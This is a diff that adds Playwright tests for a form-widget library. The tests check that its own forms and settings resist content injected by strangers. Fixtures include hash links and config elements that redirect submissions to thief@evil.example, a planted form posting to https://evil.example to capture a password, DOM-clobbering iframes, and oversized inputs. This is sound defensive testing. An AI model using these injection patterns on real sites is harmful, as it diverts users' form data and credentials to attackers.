@@ -151,3 +151,133 @@ test('What was below `data-mrp-ignore` is looked at once the page puts it elsewh
   await expect.poll(() => page.getByLabel('Full name').count()).toBe(2)
   expect(await page.getByRole('link', { name: 'Ask' }).isVisible()).toBe(false)
 })
+
+test('A closed form and a toaster of strangers, below `data-mrp-ignore`, are not taken for the page’s own', async () => {
+  const { page, complaints } = await open(
+    `<div data-mrp-ignore><mrp-demo-form mode="dialog"></mrp-demo-form><mrp-toaster></mrp-toaster></div>
+    ${localInbox}<mrp-demo-form mode="drawer" full-name="Strangers Dialog"></mrp-demo-form>
+    <button data-mrp-open="demo-form">Ask us</button>${scriptTag}`,
+  )
+  await page.getByRole('button', { name: 'Ask us' }).click()
+  await page.getByRole('dialog').getByLabel('Full name').waitFor()
+  expect(await page.getByLabel('Full name').inputValue()).toBe('Strangers Dialog')
+  await sendButton(page).click()
+  await page.getByRole('button', { name: 'Close: Missing Information' }).waitFor()
+  expect(complaints).toEqual([])
+})
+
+test('Places within each other make one element, however many there are', async () => {
+  const { page } = await open(
+    `${scriptTag}${'<div data-mrp="hero">'.repeat(400)}Hello${'</div>'.repeat(400)}<mrp-demo-form></mrp-demo-form>`,
+  )
+  await sendButton(page).waitFor()
+  expect(await page.locator('mrp-hero').count()).toBe(1)
+})
+
+const stranger = '&mode=dialog&email=thief@evil.example&source=thief'
+
+test.for([
+  ['a hidden place', '<p data-mrp="demo-form" data-mode="dialog" data-source="thief" hidden></p>'],
+  ['a place', '<p data-mrp="demo-form" data-mode="dialog" data-source="thief"></p>'],
+  ['a link', `<a href="/demo#mrp=demo-form${stranger}">x</a>`],
+  [
+    'a link in closed details',
+    `<details><summary>More</summary><a href="/demo#mrp=demo-form${stranger}">x</a></details>`,
+  ],
+])('The page’s own button opens its own form, and not that of %s', async ([, comment]) => {
+  const { page } = await open(
+    `${comment}<button data-mrp-open>Ask us</button><mrp-demo-form mode="dialog" full-name="Own"></mrp-demo-form>${scriptTag}`,
+  )
+  await page.getByRole('button', { name: 'Ask us' }).click()
+  await page.getByRole('dialog').getByLabel('Full name').waitFor()
+  expect(await page.getByRole('dialog').getByLabel('Full name').inputValue()).toBe('Own')
+  expect(await page.getByRole('dialog').count()).toBe(1)
+})
+
+test('Behind hundreds of forms, the page’s own dialog opens all the same', async () => {
+  const { page } = await open(
+    `${scriptTag}<button data-mrp-open>Ask us</button>${'<mrp-demo-form></mrp-demo-form>'.repeat(260)}<mrp-demo-form mode="dialog" full-name="Own"></mrp-demo-form>`,
+  )
+  await page.getByRole('button', { name: 'Ask us' }).click()
+  await page.getByRole('dialog').getByLabel('Full name').waitFor()
+})
+
+test('A label of the account leads to its own field, whoever has the field’s id', async () => {
+  const { page } = await open(`<main></main><mrp-account></mrp-account>${scriptTag}`)
+  const password = page.locator('mrp-account [name=password]')
+  const id = await password.getAttribute('id')
+  await page.evaluate(taken => {
+    const main = document.querySelector('main')
+    if (main)
+      main.innerHTML = `<form action="https://evil.example"><input id="${taken}" name="stolen"></form>`
+  }, id)
+  await page.locator('mrp-account label', { hasText: /^Password$/ }).click()
+  await page.keyboard.type('secret-of-anna')
+  expect(await password.inputValue()).toBe('secret-of-anna')
+  expect(await page.locator('[name=stolen]').inputValue()).toBe('')
+})
+
+test.for([
+  ['a shadow root below it', '<template shadowrootmode="open">SETTINGS</template>'],
+  ['an element below it', 'SETTINGS'],
+])('Settings in %s count for nothing', async ([, inside = '']) => {
+  const evil =
+    '<mrp-config contact-email="thief@evil.example" email-origin="https://evil.example"></mrp-config>'
+  const { page } = await open(
+    `${localInbox}<div data-mrp-ignore><p>${inside.replace('SETTINGS', evil)}</p></div><mrp-demo-form></mrp-demo-form>${scriptTag}`,
+  )
+  const name = `Strangers ${inside.length}`
+  await sendRequest(page, name)
+  expect(await lettersFrom(page, name)).toMatchObject([{ to_email: 'hello@mrp-agent.example' }])
+})
+
+test('A link with a hundred thousand parameters makes a form with few', async () => {
+  const many = Array.from({ length: 100_000 }, (_, index) => `a${index.toString(26).replace(/\d/g, 'x')}=1`)
+  const { page } = await open(
+    `${scriptTag}<a href="/demo#mrp=demo-form&email=a@b.example&${many.join('&')}">x</a>`,
+  )
+  await sendButton(page).waitFor()
+  expect(await page.locator('mrp-demo-form').evaluate(form => form.attributes.length)).toBeLessThan(50)
+  expect(await page.getByLabel('Email').inputValue()).toBe('a@b.example')
+})
+
+test.for([
+  ['a form with a field called closest', '<form data-mrp="demo-form"><input name="closest"></form>'],
+  ['a form that opens', '<form data-mrp-open="demo-form"><input name="closest"></form>'],
+  ['150,000 line breaks', `<div data-mrp="faq">${'<br>'.repeat(150_000)}</div>`],
+  ['a frame called mrp', '<iframe name="mrp" src="https://evil.example/"></iframe>'],
+  ['a frame called dataLayer', '<iframe name="dataLayer" src="https://evil.example/"></iframe>'],
+])('The page’s own form works beside %s', async ([what, comment]) => {
+  const { page, complaints } = await visit('/try.html', async tab => {
+    await tab.route('https://evil.example/**', route => route.fulfill({ body: 'evil' }))
+    await servePage(
+      `${comment}${localInbox.replace('>', ' analytics="dataLayer">')}<mrp-demo-form id="own"></mrp-demo-form>${scriptTag}`,
+    )(tab)
+  })
+  await page.locator('#own').getByLabel('Full name').fill(`Strangers ${what}`)
+  await page.locator('#own').getByLabel('Company name').fill('Huber Gears')
+  await page.locator('#own').getByLabel('Email').fill('anna@huber.example')
+  await page.locator('#own').getByRole('button', { name: 'Request a Demo' }).click()
+  await page.getByRole('heading', { name: `Thank you, Strangers ${what}.` }).waitFor()
+  await expect
+    .poll(() => page.evaluate(() => JSON.stringify((window as { dataLayer?: unknown }).dataLayer)))
+    .toContain('mrp_sent')
+  expect(complaints).toEqual([])
+})
+
+test('A link in SVG that asks for a dialog stays a link', async () => {
+  const { page } = await open(
+    `${scriptTag}<svg width="200" height="40"><a href="/robots.txt#mrp=demo-form&amp;open"><text y="20">Ask</text></a></svg>`,
+  )
+  await page.waitForFunction(() => 'mrp' in window)
+  await page.getByText('Ask').click()
+  await page.waitForURL('**/robots.txt*')
+})
+
+test('What an author writes in an editor stays as it is written', async () => {
+  const { page } = await open(
+    `${scriptTag}<div contenteditable="true">${formLink()}<div data-mrp="demo-form">Here</div></div><mrp-demo-form></mrp-demo-form>`,
+  )
+  await sendButton(page).waitFor()
+  expect(await ours(page)).toEqual(['mrp-demo-form'])
+})
